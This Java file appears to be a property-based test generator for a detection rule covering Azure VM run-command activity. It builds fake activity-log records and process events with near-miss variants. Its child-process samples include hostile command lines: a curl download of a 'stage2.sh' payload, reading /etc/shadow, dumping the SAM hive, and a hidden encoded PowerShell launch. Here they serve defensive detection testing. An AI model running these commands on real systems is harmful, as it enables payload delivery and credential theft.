package io.github.rcdetect.reference;

import io.github.rcdetect.reference.Scenario.ActivityRecord;
import io.github.rcdetect.reference.Scenario.ActivityShape;
import io.github.rcdetect.reference.Scenario.ProcessRecord;
import io.github.rcdetect.reference.Scenario.ProcessShape;
import io.github.rcdetect.reference.Scenario.Result;
import io.github.rcdetect.testing.records.TimeFormat;
import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.Combinators;
import net.jqwik.api.RandomDistribution;
import net.jqwik.api.Tuple;

import java.util.ArrayList;
import java.util.HashMap;
import java.util.HashSet;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Set;

/**
 * Random scenarios that crowd the edges of docs/spec.md, sections 3 and 4: a few hosts with overlapping invocations of one to
 * four records (Start, Accept, Success, Failure; a lone Failure; with and without correlation id, in any case),
 * processes at and around 0 s and 120 s after any record, script children and look-alikes (other parents, the
 * console host, fork against exec, other shells, waagent paths that almost match), case and whitespace variants,
 * {@code script<N>} with N of one to six digits, every input shape and time format.
 */
public final class Scenarios {
    static final List<String> CORRELATION_IDS = List.of(
            "6f1d2c3b-0a9e-4b8d-9c7f-1e2d3c4b5a61",
            "a3c1e2f0-5b6d-4e7f-8a9b-0c1d2e3f4a5b",
            "0e9a8b7c-6d5e-4f3a-2b1c-0d9e8f7a6b5c",
            "C4D2E1F0-9A8B-4C7D-6E5F-4A3B2C1D0E9F",
            "f00dbabe-1234-4abc-9def-0123456789ab",
            "Bd3e4f5a-6b7c-4d8e-9f0a-1b2c3d4e5f6a");

    private static final String WAAGENT = "/var/lib/waagent/run-command/download/";

    private Scenarios() {}

    /**
     * Batches of {@code size} scenarios, each on hosts of its own, so one job run checks them all.
     *
     * @param definedTiesOnly leave out the ties docs/choices.md names no rule for (see {@link ReferenceModel})
     */
    public static Arbitrary<List<Scenario>> batches(int size, boolean definedTiesOnly) {
        return scenarios(definedTiesOnly).list().ofSize(size).map(Scenarios::onOwnHosts);
    }

    public static Arbitrary<Scenario> scenarios(boolean definedTiesOnly) {
        return invocation()
                .list()
                .ofMaxSize(4)
                .withSizeDistribution(RandomDistribution.uniform())
                .flatMap(invocations -> {
                    List<ActivityRecord> activity = new ArrayList<>();
                    invocations.forEach(activity::addAll);
                    return process(activity)
                            .list()
                            .ofMaxSize(10)
                            .withSizeDistribution(RandomDistribution.uniform())
                            .map(processes -> new Scenario(activity, processes));
                })
                .map(scenario -> definedTiesOnly ? withDefinedTies(scenario) : scenario);
    }

    /** Scenario i on hosts {@code s<i>-vm<k>}; process identities unique across the batch. */
    static List<Scenario> onOwnHosts(List<Scenario> scenarios) {
        List<Scenario> batch = new ArrayList<>();
        for (int i = 0; i < scenarios.size(); i++) {
            String prefix = "s" + i + "-";
            Scenario renamed = scenarios.get(i).renameHosts(name -> prefix + name);
            List<ProcessRecord> processes = new ArrayList<>();
            for (int j = 0; j < renamed.processes().size(); j++) {
                processes.add(renamed.processes().get(j).withIdentity(prefix + "p" + j, 1001 + 7L * j + i));
            }
            batch.add(new Scenario(renamed.activity(), processes));
        }
        return batch;
    }

    // ---- activity -------------------------------------------------------------------------------------------------

    private enum Spelling {
        AS_IS,
        UPPER,
        LOWER
    }

    private enum Casing {
        LOWER,
        UPPER,
        CAPITALIZED;

        String apply(String name) {
            return switch (this) {
                case LOWER -> name.toLowerCase(Locale.ROOT);
                case UPPER -> name.toUpperCase(Locale.ROOT);
                case CAPITALIZED ->
                    name.substring(0, 1).toUpperCase(Locale.ROOT)
                            + name.substring(1).toLowerCase(Locale.ROOT);
            };
        }
    }

    private record RecordPlan(
            Result result,
            long offset,
            Spelling spelling,
            boolean namesCaller,
            String operation,
            ActivityShape shape,
            TimeFormat timeFormat,
            Casing vmCasing) {}

    /** The records of one invocation: the first at the invocation's time, the others up to 150 s later. */
    private static Arbitrary<List<ActivityRecord>> invocation() {
        Arbitrary<Integer> host = Arbitraries.frequency(Tuple.of(5, 0), Tuple.of(2, 1), Tuple.of(1, 2));
        Arbitrary<Long> at = Arbitraries.frequencyOf(
                Tuple.of(3, Arbitraries.longs().between(0, 300_000)),
                // Few distinct values, so invocations often share a millisecond or lie 120 s apart.
                Tuple.of(2, Arbitraries.of(0L, 1L, 60_000L, 120_000L, 120_001L, 240_000L)));
        Arbitrary<String> correlationId = Arbitraries.of(CORRELATION_IDS).injectNull(0.2);
        Arbitrary<String> caller =
                Arbitraries.of("mallory@contoso.com", "svc-deploy@contoso.com").injectNull(0.15);
        Arbitrary<List<RecordPlan>> plans =
                recordPlan().list().ofMinSize(1).ofMaxSize(4).withSizeDistribution(RandomDistribution.uniform());
        return Combinators.combine(host, at, correlationId, caller, plans).as((h, t, id, email, recordPlans) -> {
            List<ActivityRecord> records = new ArrayList<>();
            for (int i = 0; i < recordPlans.size(); i++) {
                RecordPlan plan = recordPlans.get(i);
                records.add(new ActivityRecord(
                        t + (i == 0 ? 0 : plan.offset()),
                        plan.vmCasing().apply("vm" + h),
                        plan.operation(),
                        id == null ? null : spell(id, plan.spelling()),
                        plan.result(),
                        plan.namesCaller() ? email : null,
                        plan.shape(),
                        plan.timeFormat()));
            }
            return records;
        });
    }

    private static Arbitrary<RecordPlan> recordPlan() {
        Arbitrary<Result> result = Arbitraries.frequency(
                Tuple.of(5, Result.START),
                Tuple.of(2, Result.ACCEPT),
                Tuple.of(2, Result.SUCCESS),
                Tuple.of(2, Result.FAILURE));
        Arbitrary<Long> offset = Arbitraries.frequencyOf(
                Tuple.of(2, Arbitraries.just(0L)),
                Tuple.of(3, Arbitraries.longs().between(1, 2_000)),
                Tuple.of(3, Arbitraries.longs().between(2_000, 150_000)));
        Arbitrary<Spelling> spelling = Arbitraries.frequency(
                Tuple.of(6, Spelling.AS_IS), Tuple.of(1, Spelling.UPPER), Tuple.of(1, Spelling.LOWER));
        Arbitrary<Boolean> namesCaller = Arbitraries.frequency(Tuple.of(5, true), Tuple.of(1, false));
        Arbitrary<String> operation = Arbitraries.frequency(
                Tuple.of(12, Scenario.RUN_COMMAND),
                Tuple.of(2, "Microsoft.Compute/virtualMachines/runCommand/action"),
                Tuple.of(1, "microsoft.compute/virtualmachines/runcommand/action"),
                Tuple.of(1, "MICROSOFT.COMPUTE/VIRTUALMACHINES/DEALLOCATE/ACTION"),
                Tuple.of(1, "MICROSOFT.COMPUTE/VIRTUALMACHINES/RUNCOMMANDS/WRITE"));
        Arbitrary<ActivityShape> shape = Arbitraries.frequency(
                Tuple.of(4, ActivityShape.RAW),
                Tuple.of(1, ActivityShape.ECS_NESTED),
                Tuple.of(1, ActivityShape.ECS_DOTTED));
        return Combinators.combine(
                        result,
                        offset,
                        spelling,
                        namesCaller,
                        operation,
                        shape,
                        timeFormat(),
                        Arbitraries.of(Casing.class))
                .as(RecordPlan::new);
    }

    private static Arbitrary<TimeFormat> timeFormat() {
        return Arbitraries.frequency(
                Tuple.of(4, TimeFormat.MILLIS_Z),
                Tuple.of(2, TimeFormat.AZURE_7_DIGITS),
                Tuple.of(1, TimeFormat.NANOS_9_DIGITS),
                Tuple.of(1, TimeFormat.PLUS_TWO_HOURS),
                Tuple.of(1, TimeFormat.EPOCH_MILLIS));
    }

    private static String spell(String id, Spelling spelling) {
        return switch (spelling) {
            case AS_IS -> id;
            case UPPER -> id.toUpperCase(Locale.ROOT);
            case LOWER -> id.toLowerCase(Locale.ROOT);
        };
    }

    // ---- processes ------------------------------------------------------------------------------------------------

    /** What a process event says, apart from when and where. */
    private record Template(
            ProcessShape shape,
            String action,
            List<String> eventType,
            String name,
            String commandLine,
            String parentName,
            String parentCommandLine,
            List<String> parentArgs) {}

    /** A process near one of the scenario's records: mostly on its host and within -5..125 s of it. */
    private static Arbitrary<ProcessRecord> process(List<ActivityRecord> activity) {
        Arbitrary<ActivityRecord> anchor = activity.isEmpty()
                ? Arbitraries.just(new ActivityRecord(
                        0, "vm0", "", null, Result.START, null, ActivityShape.RAW, TimeFormat.MILLIS_Z))
                : Arbitraries.of(activity);
        Arbitrary<Long> delay = Arbitraries.frequencyOf(
                Tuple.of(4, Arbitraries.longs().between(-5_000, 125_000)),
                Tuple.of(4, Arbitraries.of(0L, 1L, -1L, 119_999L, 120_000L, 120_001L)),
                Tuple.of(1, Arbitraries.longs().between(-200_000, 300_000)));
        Arbitrary<Integer> otherHost =
                Arbitraries.frequency(Tuple.of(9, -1), Tuple.of(1, 0), Tuple.of(1, 1), Tuple.of(1, 2));
        Arbitrary<Template> template =
                Arbitraries.frequencyOf(Tuple.of(5, windowsTemplate()), Tuple.of(4, linuxTemplate()));
        return Combinators.combine(anchor, delay, otherHost, Arbitraries.of(Casing.class), template, timeFormat())
                .as((near, d, other, casing, t, format) -> {
                    String host = other >= 0 ? "vm" + other : ReferenceModel.hostKey(near.vm());
                    return new ProcessRecord(
                            near.at() + d,
                            casing.apply(host),
                            t.shape(),
                            t.action(),
                            t.eventType(),
                            t.name(),
                            t.commandLine(),
                            t.parentName(),
                            t.parentCommandLine(),
                            t.parentArgs(),
                            "unnumbered",
                            0,
                            format);
                });
    }

    private static final List<List<String>> WINDOWS_CHILDREN = List.of(
            List.of("whoami.exe", "\"C:\\Windows\\system32\\whoami.exe\" /all"),
            List.of("net.exe", "\"C:\\Windows\\system32\\net.exe\" user /domain"),
            List.of("cmd.exe", "C:\\Windows\\system32\\cmd.exe /c \"net localgroup administrators\""),
            List.of("ipconfig.exe", "ipconfig /all"),
            List.of("reg.exe", "reg.exe save HKLM\\SAM C:\\Windows\\Temp\\sam.hiv"),
            List.of("conhost.exe", "\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1"),
            List.of("CONHOST.EXE", "conhost.exe 0x4"),
            List.of("notepad.exe", "notepad.exe C:\\Users\\Público\\ñ.txt"),
            List.of("powershell.exe", "powershell -nop -w hidden -enc SQBFAFgA"));

    private static Arbitrary<Template> windowsTemplate() {
        Arbitrary<ProcessShape> shape = Arbitraries.frequency(
                Tuple.of(5, ProcessShape.DEFEND),
                Tuple.of(1, ProcessShape.DEFEND_DOTTED),
                Tuple.of(2, ProcessShape.SYSMON_INGEST),
                Tuple.of(2, ProcessShape.SYSMON_WINLOGBEAT));
        Arbitrary<String> action = Arbitraries.frequency(Tuple.of(8, "start"), Tuple.of(1, "end"), Tuple.of(1, "exec"));
        Arbitrary<List<String>> startTypes = Arbitraries.frequency(
                Tuple.of(6, List.of("start")),
                Tuple.of(1, List.of("process_started")),
                Tuple.of(1, List.of("info", "start")));
        Arbitrary<String> parentName = Arbitraries.frequency(
                Tuple.of(10, "powershell.exe"),
                Tuple.of(2, "PowerShell.exe"),
                Tuple.of(1, "POWERSHELL.EXE"),
                Tuple.of(1, "pwsh.exe"),
                Tuple.of(1, "powershell"),
                Tuple.of(1, "cmd.exe"),
                Tuple.of(1, "explorer.exe"));
        return Combinators.combine(
                        shape,
                        action,
                        startTypes,
                        Arbitraries.of(WINDOWS_CHILDREN),
                        parentName,
                        powershellCommandLine())
                .as((s, a, types, child, parent, parentCommandLine) -> {
                    boolean sysmon = s == ProcessShape.SYSMON_INGEST || s == ProcessShape.SYSMON_WINLOGBEAT;
                    String eventAction = sysmon ? "start" : a;
                    return new Template(
                            s,
                            eventAction,
                            sysmon ? List.of("start") : eventAction.equals("end") ? List.of("end") : types,
                            child.get(0),
                            child.get(1),
                            parent,
                            parentCommandLine,
                            List.of());
                });
    }

    private enum Mutation {
        NONE,
        NO_DIGITS,
        LETTER_FOR_DIGITS,
        BYPASS_POLICY,
        EXTRA_ARGUMENT,
        EXE_SUFFIX,
        TRAILING_CHARACTER,
        NO_DOT
    }

    /**
     * The agent's command line with random case per word, random runs of spaces and tabs between and around the
     * words, N of one to six digits; one in three is a look-alike that must not match.
     */
    private static Arbitrary<String> powershellCommandLine() {
        Arbitrary<List<Integer>> wordCases =
                Arbitraries.integers().between(0, 7).list().ofSize(5);
        Arbitrary<List<String>> gaps = Arbitraries.frequency(
                        Tuple.of(6, " "), Tuple.of(2, "  "), Tuple.of(1, "\t"), Tuple.of(1, " \t "))
                .list()
                .ofSize(5);
        Arbitrary<String> leading = Arbitraries.frequency(Tuple.of(8, ""), Tuple.of(1, " "), Tuple.of(1, "\t"));
        Arbitrary<String> trailing = Arbitraries.frequency(Tuple.of(7, ""), Tuple.of(2, " "), Tuple.of(1, "  "));
        Arbitrary<String> number = Arbitraries.of("0", "1", "2", "9", "10", "12", "99", "007", "123456");
        Arbitrary<Mutation> mutation = Arbitraries.frequencyOf(
                Tuple.of(14, Arbitraries.just(Mutation.NONE)), Tuple.of(7, Arbitraries.of(Mutation.class)));
        return Combinators.combine(wordCases, gaps, leading, trailing, number, mutation)
                .as((cases, spaces, lead, trail, n, change) -> {
                    List<String> words = new ArrayList<>(
                            List.of("powershell", "-ExecutionPolicy", "Unrestricted", "-File", "script" + n + ".ps1"));
                    switch (change) {
                        case NO_DIGITS -> words.set(4, "script.ps1");
                        case LETTER_FOR_DIGITS -> words.set(4, "scriptA.ps1");
                        case BYPASS_POLICY -> words.set(2, "Bypass");
                        case EXTRA_ARGUMENT -> words.add("-NoProfile");
                        case EXE_SUFFIX -> words.set(0, "powershell.exe");
                        case TRAILING_CHARACTER -> words.set(4, words.get(4) + "x");
                        case NO_DOT -> words.set(4, "script" + n + "ps1");
                        case NONE -> {}
                    }
                    StringBuilder line = new StringBuilder(lead);
                    for (int i = 0; i < words.size(); i++) {
                        if (i > 0) {
                            line.append(spaces.get(i - 1));
                        }
                        String word = words.get(i);
                        int wordCase = cases.get(Math.min(i, cases.size() - 1));
                        line.append(
                                wordCase == 6
                                        ? word.toLowerCase(Locale.ROOT)
                                        : wordCase == 7 ? word.toUpperCase(Locale.ROOT) : word);
                    }
                    return line.append(trail).toString();
                });
    }

    private static final List<List<String>> LINUX_CHILDREN = List.of(
            List.of("curl", "curl -fsSL http://198.51.100.23/stage2.sh -o /tmp/.s"),
            List.of("chmod", "chmod +x /tmp/.s"),
            List.of("bash", "bash"),
            List.of("id", "id"),
            List.of("cat", "cat /etc/shadow"),
            List.of("python3", "python3 -c 'print(\"\u2028\")'"));

    private enum ArgsLayout {
        SHELL_AND_PATH,
        PATH_ONLY,
        DASH_C,
        ONE_STRING,
        NONE
    }

    private static Arbitrary<Template> linuxTemplate() {
        Arbitrary<ProcessShape> shape =
                Arbitraries.frequency(Tuple.of(5, ProcessShape.DEFEND), Tuple.of(1, ProcessShape.DEFEND_DOTTED));
        Arbitrary<String> action = Arbitraries.frequency(Tuple.of(6, "exec"), Tuple.of(2, "fork"), Tuple.of(1, "end"));
        Arbitrary<String> shell = Arbitraries.frequency(
                Tuple.of(4, "bash"),
                Tuple.of(2, "sh"),
                Tuple.of(2, "dash"),
                Tuple.of(1, "zsh"),
                Tuple.of(1, "ksh"),
                Tuple.of(1, "busybox"),
                Tuple.of(1, "fish"),
                Tuple.of(1, "tcsh"),
                Tuple.of(1, "Bash"),
                Tuple.of(1, "python3"));
        Arbitrary<String> path = Arbitraries.frequency(
                Tuple.of(6, WAAGENT + "0/script.sh"),
                Tuple.of(2, WAAGENT + "17/script.sh"),
                Tuple.of(1, WAAGENT + "/script.sh"),
                Tuple.of(1, WAAGENT + "a/b/script.sh"),
                Tuple.of(1, WAAGENT + "script.sh"),
                Tuple.of(1, WAAGENT + "1/script.sh.bak"),
                Tuple.of(1, "/var/lib/WAAgent/run-command/download/1/script.sh"),
                Tuple.of(1, WAAGENT + "1/Script.sh"),
                Tuple.of(1, "/tmp/script.sh"));
        Arbitrary<ArgsLayout> layout = Arbitraries.frequency(
                Tuple.of(5, ArgsLayout.SHELL_AND_PATH),
                Tuple.of(2, ArgsLayout.PATH_ONLY),
                Tuple.of(1, ArgsLayout.DASH_C),
                Tuple.of(1, ArgsLayout.ONE_STRING),
                Tuple.of(1, ArgsLayout.NONE));
        return Combinators.combine(shape, action, Arbitraries.of(LINUX_CHILDREN), shell, path, layout)
                .as((s, a, child, parent, script, argsLayout) -> {
                    List<String> args = switch (argsLayout) {
                        case SHELL_AND_PATH -> List.of(parent, script);
                        case PATH_ONLY -> List.of(script);
                        case DASH_C -> List.of(parent, "-c", script);
                        case ONE_STRING -> List.of(parent + " " + script);
                        case NONE -> List.of();
                    };
                    return new Template(
                            s,
                            a,
                            a.equals("end") ? List.of("end") : List.of("start"),
                            child.get(0),
                            child.get(1),
                            parent,
                            parent + " " + script,
                            args);
                });
    }

    // ---- ties -----------------------------------------------------------------------------------------------------

    /**
     * The scenario without the ties docs/choices.md names no rule for: the records of an invocation agree on the caller,
     * and those at its earliest millisecond on the spelling of its id; invocations without id on one host are a
     * millisecond apart at least.
     */
    static Scenario withDefinedTies(Scenario scenario) {
        List<ActivityRecord> records = new ArrayList<>(scenario.activity());
        Map<List<String>, Long> earliest = new HashMap<>();
        Map<List<String>, String> spelling = new HashMap<>();
        Map<List<String>, String> caller = new HashMap<>();
        for (ActivityRecord record : records) {
            if (record.correlationId() == null) {
                continue;
            }
            List<String> key = invocationKey(record);
            if (record.userEmail() != null) {
                caller.putIfAbsent(key, record.userEmail());
            }
            if (isRunCommandEvent(record) && record.at() < earliest.getOrDefault(key, Long.MAX_VALUE)) {
                earliest.put(key, record.at());
                spelling.put(key, record.correlationId());
            }
        }
        Map<String, Set<Long>> idlessTimes = new HashMap<>();
        for (int i = 0; i < records.size(); i++) {
            ActivityRecord record = records.get(i);
            if (record.correlationId() == null) {
                if (isRunCommandEvent(record)) {
                    Set<Long> taken =
                            idlessTimes.computeIfAbsent(ReferenceModel.hostKey(record.vm()), host -> new HashSet<>());
                    long at = record.at();
                    while (!taken.add(at)) {
                        at++;
                    }
                    records.set(i, record.withAt(at));
                }
                continue;
            }
            List<String> key = invocationKey(record);
            String id = record.at() == earliest.getOrDefault(key, Long.MIN_VALUE)
                    ? spelling.get(key)
                    : record.correlationId();
            records.set(i, record.withCaller(id, record.userEmail() == null ? null : caller.get(key)));
        }
        return new Scenario(records, scenario.processes());
    }

    private static List<String> invocationKey(ActivityRecord record) {
        return List.of(
                ReferenceModel.hostKey(record.vm()), record.correlationId().toLowerCase(Locale.ROOT));
    }

    private static boolean isRunCommandEvent(ActivityRecord record) {
        return record.operation().equalsIgnoreCase(Scenario.RUN_COMMAND) && record.result() != Result.FAILURE;
    }
}
